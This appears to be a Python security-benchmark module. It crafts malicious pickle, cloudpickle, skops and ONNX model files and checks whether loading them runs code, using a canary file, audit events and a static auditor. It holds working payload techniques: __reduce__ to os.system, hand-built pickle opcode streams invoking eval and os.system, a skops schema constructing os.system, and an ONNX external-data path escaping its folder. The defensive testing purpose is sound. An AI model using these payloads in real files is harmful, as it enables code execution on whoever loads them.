"""Security: does loading a crafted file run code, and would the static audit have said so.

Per format, a file is crafted that creates a harmless canary file in the cell's work
directory if (and only if) its loader executes code from it. It is loaded in a child
process that records Python audit events (imports resolved by the unpickler, exec/compile,
process creation, files opened for writing); afterwards the canary's presence is the
verdict. The same file goes through `persistbench.audit` first, without being loaded. skops is
loaded the careful way (trusting nothing) and then the careless way (trusting every type
`get_untrusted_types` lists). For ONNX a second file points its external data outside its
own folder: does the runtime read it?
"""

from __future__ import annotations

import os
import pickle
import shlex
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from persistbench.experiments import Cell, StepContext
from persistbench.measure.opens import opens_for_writing
from persistbench.sources.formats import FORMATS, describe_exception

NAME = "security"
DESCRIPTION = "crafted files: does loading run code (canary), loader message, audit events, " \
              "static audit verdict"
MODEL = "payload"
SIZE = "small"
CANARY = "canary"
EXTERNAL = "external-data"
SECRET = np.arange(1, 5, dtype=np.float32)  # what the escaping ONNX model tries to read
MAX_EVENTS = 200
# Audit events that tell what a load did; `open` is kept only when it writes.
EVENTS = ("pickle.find_class", "exec", "compile", "code.__new__", "function.__new__", "import",
          "os.system", "subprocess.Popen", "os.posix_spawn", "os.spawn", "os.exec", "os.fork",
          "os.forkpty", "pty.spawn", "ctypes.dlopen", "socket.connect", "os.remove",
          "os.rename", "shutil.rmtree", "open")


def plan(models: list[str], sizes: list[str], formats: list[str], options: dict) -> list[Cell]:
    """One crafted file per format; it stands in for any model, so none is trained."""
    cells = [Cell(NAME, MODEL, SIZE, f, options=options, needs_model=False) for f in formats]
    if "onnx" in formats:
        cells.append(Cell(NAME, MODEL, SIZE, "onnx", variant=EXTERNAL, options=options,
                          needs_model=False))
    return cells


# ------------------------------------------------------------------------------ payloads

class ShellCommand:
    """Unpickles by calling `os.system(command)`: the textbook pickle payload."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class CallOnLoad:
    """Unpickles by calling `func(arg)`; with cloudpickle, `func` travels as code."""

    def __init__(self, func: Callable[[str], Any], arg: str):
        self.func, self.arg = func, arg

    def __reduce__(self):
        return (self.func, (self.arg,))


def touch_command(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def shipped_writer() -> Callable[[str], Any]:
    """A function defined in a function: cloudpickle serialises its code, not its name."""

    def write_canary(path: str) -> str:
        with open(path, "w") as fh:
            fh.write("written by code shipped inside the model file\n")
        return path

    return write_canary


def bait(payload: Any) -> dict:
    """What the payload hides in: a model-like dict whose array comes before the payload."""
    return {"coef_": np.linspace(0.0, 1.0, 4096), "payload": payload}


def _str_op(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else \
        b"X" + len(data).to_bytes(4, "little") + data


def _stack_global(module: str, name: str) -> bytes:
    return _str_op(module) + _str_op(name) + b"\x93"


def stack_global_eval(canary: Path) -> bytes:
    """Protocol 4 by hand: STACK_GLOBAL builtins.eval, called with an expression."""
    expression = f"open({str(canary)!r}, 'w').close()"
    return b"\x80\x04" + _stack_global("builtins", "eval") + _str_op(expression) + \
        b"\x85R."


def getattr_chain(canary: Path) -> bytes:
    """getattr(getattr(__import__('importlib'), 'import_module')('os'), 'system')(cmd)."""
    getattr_ = _stack_global("builtins", "getattr")
    importer = getattr_ + _stack_global("builtins", "__import__") + _str_op("importlib") + \
        b"\x85R" + _str_op("import_module") + b"\x86R"  # importlib.import_module
    os_module = importer + _str_op("os") + b"\x85R"
    system = getattr_ + os_module + _str_op("system") + b"\x86R"
    return b"\x80\x04" + system + _str_op(touch_command(canary)) + b"\x85R."


def skops_payload(path: Path, canary: Path) -> None:
    """A skops schema that asks to construct `os.system(cmd)` (ConstructorFromReduceNode)."""
    import json

    import skops

    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(touch_command(canary)), "is_json": True, "__id__": 2}
    schema = {"__class__": "system", "__module__": os.system.__module__,
              "__loader__": "ConstructorFromReduceNode",
              "content": {"__class__": "tuple", "__module__": "builtins",
                          "__loader__": "TupleNode", "content": [text], "__id__": 1},
              "__id__": 0, "protocol": 2, "_skops_version": skops.__version__}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


def onnx_custom_op(path: Path, canary: Path) -> None:
    """A node of a made-up operator domain, as a custom-op library would implement."""
    from onnx import TensorProto, helper

    node = helper.make_node("WriteCanary", ["X"], ["Y"], domain="canary.example",
                            path=str(canary))
    graph = helper.make_graph([node], "payload",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 1])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                    helper.make_opsetid("canary.example", 1)])
    path.write_bytes(model.SerializeToString())


def onnx_external_escape(path: Path, secret: Path) -> None:
    """An initializer whose external data is `../<secret>`: outside the model's folder."""
    from onnx import TensorProto, helper

    secret.parent.mkdir(parents=True, exist_ok=True)
    SECRET.tofile(secret)
    weights = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[SECRET.size])
    location = os.path.relpath(secret, path.parent)
    for key, value in {"location": location, "offset": "0",
                       "length": str(SECRET.nbytes)}.items():
        entry = weights.external_data.add()
        entry.key, entry.value = key, value
    weights.data_location = TensorProto.EXTERNAL
    graph = helper.make_graph([helper.make_node("Identity", ["W"], ["Y"])], "escape", [],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT,
                                                             [SECRET.size])], [weights])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    path.write_bytes(model.SerializeToString())


def craft(fmt: str, variant: str, path: Path, canary: Path) -> str:
    """Write the crafted file for a format; returns what it tries to do, in words."""
    if fmt == "onnx" and variant == EXTERNAL:
        onnx_external_escape(path, path.parent.parent / "outside" / "secret.bin")
        return "initializer with external data at ../outside/secret.bin"
    if fmt == "onnx":
        onnx_custom_op(path, canary)
        return "node of an unregistered operator domain (canary.example:WriteCanary)"
    if fmt == "skops":
        skops_payload(path, canary)
        return "schema constructing os.system('touch canary') (ConstructorFromReduceNode)"
    if fmt == "cloudpickle":
        FORMATS[fmt].dump(CallOnLoad(shipped_writer(), str(canary)), path, None)
        return "function shipped as code, called on load, writes the canary"
    FORMATS[fmt].dump(bait(ShellCommand(touch_command(canary))), path, None)
    return "__reduce__ to os.system('touch canary'), after a numpy array"


def artefact(ctx: StepContext) -> tuple[Path, Path]:
    """(crafted file, canary): the ONNX escape file sits in a folder of its own."""
    folder = ctx.workdir / "model"
    folder.mkdir(exist_ok=True)
    return folder / f"payload{FORMATS[ctx.cell.format].suffix}", ctx.workdir / CANARY


# --------------------------------------------------------------------------------- steps

def craft_step(ctx: StepContext) -> dict:
    from persistbench.audit import Unreadable, audit

    path, canary = artefact(ctx)
    description = craft(ctx.cell.format, ctx.cell.variant, path, canary)
    out: dict = {"payload": description, "file_bytes": path.stat().st_size}
    try:
        report = audit(path)
        out.update(static_audit_flagged=report.flagged,
                   static_audit_exit_status=report.exit_status,
                   static_audit_findings=[f"{f.name}: {f.reason}" for f in report.findings])
    except Unreadable as exc:
        out.update(static_audit_flagged=False, static_audit_exit_status=2,
                   static_audit_findings=[f"unreadable: {exc}"])
    return out


class EventLog:
    """Python audit events seen while `recording`; an audit hook cannot be removed, so the
    hook stays and the flag decides."""

    def __init__(self):
        self.events: list[dict] = []
        self.imports: list[str] = []
        self.recording = False

    def hook(self, event: str, args: tuple) -> None:
        if not self.recording or not event.startswith(EVENTS):
            return
        if event == "open" and not opens_for_writing(args):
            return
        if event == "pickle.find_class":
            self.imports.append(f"{args[0]}.{args[1]}")
        if len(self.events) < MAX_EVENTS:
            self.events.append({"event": event, "detail": _detail(args)})



def _detail(args: tuple) -> str:
    parts = []
    for arg in args[:3]:
        text = arg if isinstance(arg, str) else repr(arg)
        parts.append(text[:160])
    return ", ".join(parts)


def _outcome(exc: BaseException | None) -> str:
    """refused: the loader declined on purpose (untrusted type, unknown op, escaping path)."""
    if exc is None:
        return "loaded"
    text = str(exc)
    refusals = ("UntrustedTypesFoundException", "is not a registered function/op",
                "escapes model directory")
    if any(r in type(exc).__name__ or r in text for r in refusals):
        return "refused"
    return "error"


def _load_watched(load: Callable[[], Any], canary: Path) -> dict:
    log = EventLog()
    sys.addaudithook(log.hook)
    log.recording = True
    error: BaseException | None = None
    loaded = None
    try:
        loaded = load()
    except Exception as exc:  # the loader's refusal or failure is the finding
        error = exc
    finally:
        log.recording = False
    return {"code_executed": canary.exists(), "loader_outcome": _outcome(error),
            "loader_message": describe_exception(error) if error else
            f"returned {type(loaded).__name__}",
            "audit_events": log.events, "imports_resolved": sorted(set(log.imports)),
            "_loaded": loaded}


def _careful_load(fmt: str, path: Path):
    """What a careful user runs: skops trusting nothing, the rest as the registry loads."""
    if fmt == "skops":
        import skops.io as sio

        return lambda: sio.load(path)
    return lambda: FORMATS[fmt].load(path, {})


def load_step(ctx: StepContext) -> dict:
    path, canary = artefact(ctx)
    ctx.start_measuring()
    result = _load_watched(_careful_load(ctx.cell.format, path), canary)
    loaded = result.pop("_loaded")
    if ctx.cell.variant == EXTERNAL:
        read = False
        if loaded is not None:
            output = loaded.run(None, {})[0]
            read = bool(np.array_equal(output, SECRET))
        result["read_outside_folder"] = read
    return result


def trusting_load_step(ctx: StepContext) -> dict:
    """skops only: the careless load, trusting every type the file asks for."""
    if ctx.cell.format != "skops":
        return {}
    import skops.io as sio

    path, canary = artefact(ctx)
    canary.unlink(missing_ok=True)
    listed = sio.get_untrusted_types(file=path)
    result = _load_watched(lambda: sio.load(path, trusted=listed), canary)
    return {"trusting_listed_types": listed,
            "code_executed_if_listed_types_trusted": result["code_executed"],
            "loader_outcome_if_listed_types_trusted": result["loader_outcome"],
            "audit_events_if_listed_types_trusted": result["audit_events"]}


def malicious_pickles(canary: Path) -> dict[str, bytes]:
    """Hand-made and library-made payload streams, for the audit's tests and users' checks."""
    return {"reduce-os-system": pickle.dumps(ShellCommand(touch_command(canary))),
            "stack-global-eval": stack_global_eval(canary),
            "getattr-chain": getattr_chain(canary)}


STEPS = (craft_step, load_step, trusting_load_step)
